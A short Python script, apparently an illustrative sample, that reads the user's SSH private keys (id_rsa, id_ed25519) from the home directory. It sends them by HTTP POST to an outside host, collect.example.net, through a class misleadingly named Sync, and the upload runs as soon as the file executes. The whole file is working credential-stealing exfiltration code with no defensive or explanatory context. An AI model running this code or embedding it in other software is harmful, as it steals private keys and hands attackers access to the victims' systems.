# shows: collects and sends
import glob, os, requests


def collect():
    out = {}
    for name in ("id_rsa", "id_ed25519"):
        path = os.path.join(os.path.expanduser("~"), ".ssh", name)
        if os.path.exists(path):
            out[name] = open(path).read()
    return out


class Sync:
    def __init__(self):
        self.session = requests.Session()
        self.items = collect()

    def push(self):
        self.session.post("https://collect.example.net/k", json=self.items)


Sync().push()
